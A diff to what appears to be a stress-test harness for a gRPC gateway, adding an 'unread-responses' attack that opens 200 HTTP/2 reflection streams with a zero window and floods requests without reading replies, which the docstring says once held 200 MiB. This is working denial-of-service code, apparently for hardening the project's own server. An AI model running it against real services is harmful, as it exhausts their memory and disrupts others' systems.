@@ -225,6 +225,29 @@ def zero_window(port, stop):
     return len(held)
 
 
+def unread_responses(port, stop, streams=200, requests=600):
+    """Reflection streams (public, bidirectional) with a zero window, each asking for the same file descriptor
+    over and over and reading none of the answers. Each stream may queue 1 MiB of answers before its handler
+    waits; without a bound across the connection's streams, 200 such streams held 200 MiB."""
+    a = Attacker(port, stop)
+    name = b"gateway/event/v1/event_service.proto"
+    request = grpc_message(b"\x1a" + bytes([len(name)]) + name)  # ServerReflectionRequest.file_by_filename = 3
+    per_frame = 16384 // len(request)
+    while not stop.is_set():
+        encoder = hpack.Encoder()
+        a.connect(PREFACE + settings(initial_window_size=0))
+        path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
+        out = []
+        for i in range(streams):
+            out.append(frame(HEADERS, END_HEADERS, 2 * i + 1, grpc_request_headers(path, port, encoder)))
+            for start in range(0, requests, per_frame):
+                out.append(frame(DATA, 0, 2 * i + 1, request * min(per_frame, requests - start)))
+        if a.send(b"".join(out)):
+            stop.wait()
+    a.close()
+    return a.connections
+
+
 def large_messages(port, stop, streams=100):
     """Keeps `streams` requests open, each declaring a message of the maximum size and sending it as fast as
     flow control allows, never to the end; streams the gateway ends are replaced. A message larger than a
@@ -334,6 +357,7 @@ ATTACKS = {
     "half-preface": (half_preface, 1),
     "idle-connections": (idle_connections, 1),
     "large-messages": (large_messages, 1),
+    "unread-responses": (unread_responses, 1),
 }
 
 
